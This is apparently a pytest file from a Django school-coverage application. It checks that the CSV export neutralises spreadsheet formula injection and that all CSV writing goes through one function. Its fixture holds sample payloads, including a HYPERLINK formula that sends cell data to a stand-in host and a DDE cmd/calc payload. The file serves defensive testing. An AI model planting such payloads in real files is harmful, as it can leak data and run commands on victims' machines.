"""Exported cells cannot run as formulas (issue 10, item 5).

A school's name and area are typed by an administrator in the admin; whoever opens the
coverage export in Excel must see them as text, never evaluated. OWASP's list of dangerous
first characters: = + - @ tab carriage return.
"""

import csv
import io
import re
from pathlib import Path

import pytest

from sspf.csvexport import neutralise
from tests.schools.factories import SchoolFactory, assign

ROOT = Path(__file__).resolve().parents[2]
WRITES_CSV = re.compile(
    r"csv\.(writer|DictWriter)\b|^\s*from csv import .*\b(writer|DictWriter)\b", re.M
)
HOSTILE = {
    '=HYPERLINK("https://evil.example/?"&A1;"Klicka")': "name",
    "@SUM(1+1)*cmd|' /C calc'!A0": "name",
    "-2+3": "area",
    "+46 8 123": "area",
    "\t=1+1": "name",
    "\r=1+1": "area",
}


@pytest.fixture
def coordinator(make_user):
    return make_user("coordinator", username="sara")


def download(client, user):
    client.force_login(user)
    response = client.get("/schools/coverage.csv")
    assert response.status_code == 200
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads UTF-8 only with the byte-order mark
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline=""), delimiter=";"))


@pytest.mark.django_db
def test_formula_cells_in_the_coverage_export_are_inert(client, coordinator, make_user):
    officer = make_user("school_police")
    for value, field in HOSTILE.items():
        school = SchoolFactory(**{field: value})
        assign(officer, school)
    SchoolFactory(name="Ekbackeskolan", area="Söder")

    rows = download(client, coordinator)
    cells = [cell for row in rows[1:] for cell in row[:3]]
    for value in HOSTILE:
        assert "'" + value in cells, f"{value!r} is not neutralised"
        assert value not in cells
    ekbacke = next(row for row in rows if row[0] == "Ekbackeskolan")
    assert ekbacke[2] == "Söder"  # ordinary text is left as it is
    hostile_row = next(row for row in rows if row[0] == "'" + "\t=1+1")
    assert hostile_row[3:6] == ["1", "2", "0"]  # numbers stay numbers


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_dangerous_first_character_is_neutralised(first):
    assert neutralise(first + "1+1") == "'" + first + "1+1"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Ekbackeskolan", "Ekbackeskolan"),
        ("a=b", "a=b"),  # only the first character matters to a spreadsheet
        (" =1+1", " =1+1"),
        ("", ""),
        (None, ""),
        (-5, -5),  # a number the code writes stays a number
        (2, 2),
    ],
)
def test_other_values_are_written_as_they_are(value, written):
    assert neutralise(value) == written


def test_every_export_goes_through_the_one_writer():
    """A module that writes CSV on its own could forget the neutralising. (Reading CSV, as the
    load benchmark reads Locust's figures, is no export.)"""
    own_writers = []
    for path in ROOT.glob("*/**/*.py"):
        parts = path.relative_to(ROOT).parts
        if parts[0] in {".venv", "tests", "var", "node_modules"} or "migrations" in parts:
            continue
        if path.relative_to(ROOT) == Path("sspf/csvexport.py"):
            continue
        if WRITES_CSV.search(path.read_text()):
            own_writers.append(str(path.relative_to(ROOT)))
    assert own_writers == []
